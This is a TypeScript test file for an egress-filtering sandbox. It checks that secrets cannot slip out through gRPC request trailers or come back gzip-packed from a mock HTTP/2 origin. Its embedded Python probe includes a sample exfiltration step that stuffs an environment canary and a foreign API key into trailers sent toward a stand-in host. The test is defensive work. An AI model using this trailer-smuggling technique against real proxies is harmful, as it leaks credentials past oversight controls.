// gRPC as a carrier: trailers of a request, which no client sends, and messages that the origin packs. Source: grpc/doc/PROTOCOL-HTTP2.md; EGRESS K34.
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { createSecureServer, type Http2SecureServer, type ServerHttp2Stream } from 'node:http2';
import { connect, type Socket } from 'node:net';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { expect } from 'vitest';
import { forEachTier, outcomes } from '../support/attack.ts';
import { EgressBox } from '../support/egress-box.ts';

const KIND = 'content-type: application/grpc';

/** An origin that speaks HTTP/2 alone; `base` holds its certificate by the time it is first dialled. */
class GrpcOrigin {
  readonly trailers: string[] = [];
  readonly keys: string[] = [];
  readonly #base: string;
  readonly #sockets = new Set<Socket>();
  #server: Http2SecureServer | undefined;

  constructor(base: string) {
    this.#base = base;
  }

  async dial(): Promise<Socket> {
    this.#server ??= await this.#serve();
    const address = this.#server.address();
    if (typeof address !== 'object' || address === null) throw new Error('the origin does not listen');
    const socket = connect({ host: '127.0.0.1', port: address.port, allowHalfOpen: true });
    this.#sockets.add(socket);
    socket.on('error', () => undefined);
    await once(socket, 'connect');
    return socket;
  }

  close(): void {
    for (const socket of this.#sockets) socket.destroy();
    this.#server?.close();
  }

  async #serve(): Promise<Http2SecureServer> {
    const [key, cert] = ['leaf.key', 'leaf.pem'].map((name) => readFileSync(path.join(this.#base, name)));
    const server = createSecureServer({ key, cert });
    server.on('stream', (stream, headers) => this.#answer(stream, headers));
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    return server;
  }

  #answer(stream: ServerHttp2Stream, headers: Readonly<Record<string, unknown>>): void {
    const key = String(headers['x-api-key']);
    this.keys.push(key);
    stream.on('trailers', (trailers: object) => this.trailers.push(JSON.stringify(trailers)));
    stream.on('error', () => undefined).resume();
    stream.on('end', () => {
      if (stream.destroyed) return;
      const packed = headers['grpc-accept-encoding'] === 'gzip' || headers[':path'] === '/pkg.Svc/Anyway';
      const message = packed ? gzipSync(`echo ${key}`) : Buffer.from(`echo ${key}`);
      const prefix = Buffer.alloc(5);
      prefix[0] = packed ? 1 : 0;
      prefix.writeUInt32BE(message.length, 1);
      const coding = packed ? { 'grpc-encoding': 'gzip' } : {};
      stream.respond({ 'content-type': 'application/grpc', ...coding }, { waitForTrailers: true });
      stream.on('wantTrailers', () => stream.sendTrailers({ 'grpc-status': '0' }));
      stream.end(Buffer.concat([prefix, message]));
    });
  }
}

forEachTier('nothing leaves in the trailers of a call, and no secret comes back packed', async (tier) => {
  await using box = new EgressBox(tier, { llm: { preset: undefined, paths: ['/**'], http2: true } });
  const origin = new GrpcOrigin(box.base);
  const transport = {
    resolver: { resolve: () => Promise.resolve(['93.184.216.34']) },
    dialler: { dial: () => origin.dial() },
  };
  try {
    const result = await box.probe(
      `
def grpc(name, path, lines=(), trailers=None):
    link = H2()
    message = bytes(5)
    if trailers is None:
        stream = link.request(h2_fields(path=path, lines=(OWN, '${KIND}', *lines)), message)
    else:
        stream = link.request(h2_fields(path=path, lines=(OWN, '${KIND}', *lines)), message, end=False)
        link.link.sendall(h2_frame(1, 5, stream, h2_block(trailers)))
    try:
        while stream not in link.ends and 0 not in link.ends: link.step()
    except OSError: pass
    body = link.bodies.get(stream, b'')
    if body[:1] == b'\\1':
        try: body = b'unpacked ' + gzip.decompress(body[5:])
        except OSError: body = b'spoilt'
    else: body = body[5:]
    report(name, body.decode('latin-1') or link.ends.get(stream, 'nothing'))

grpc('control', '/pkg.Svc/Echo')
grpc('asked', '/pkg.Svc/Echo', ('grpc-accept-encoding: gzip',))
grpc('unasked', '/pkg.Svc/Anyway')
grpc('trailers', '/pkg.Svc/Echo', trailers=[('x-leak', os.environ['CANARY']), ('x-api-key', FOREIGN)])
`,
      { transport },
    );
    const seen = outcomes(result);
    expect(seen['control'], result.stdout + result.stderr).toMatch(/^echo \[redacted\]/);
    expect(origin.keys).toContain(box.secret);
    expect(result.stdout).not.toContain(box.secret.slice(13, 40));
    expect(seen['asked']).toMatch(/^echo \[redacted\]/);
    expect(seen['unasked']).not.toContain('unpacked');
    expect(origin.trailers.join()).not.toContain(box.canary);
    expect(origin.trailers.join()).not.toContain('AttackerOwnKey');
  } finally {
    origin.close();
  }
});
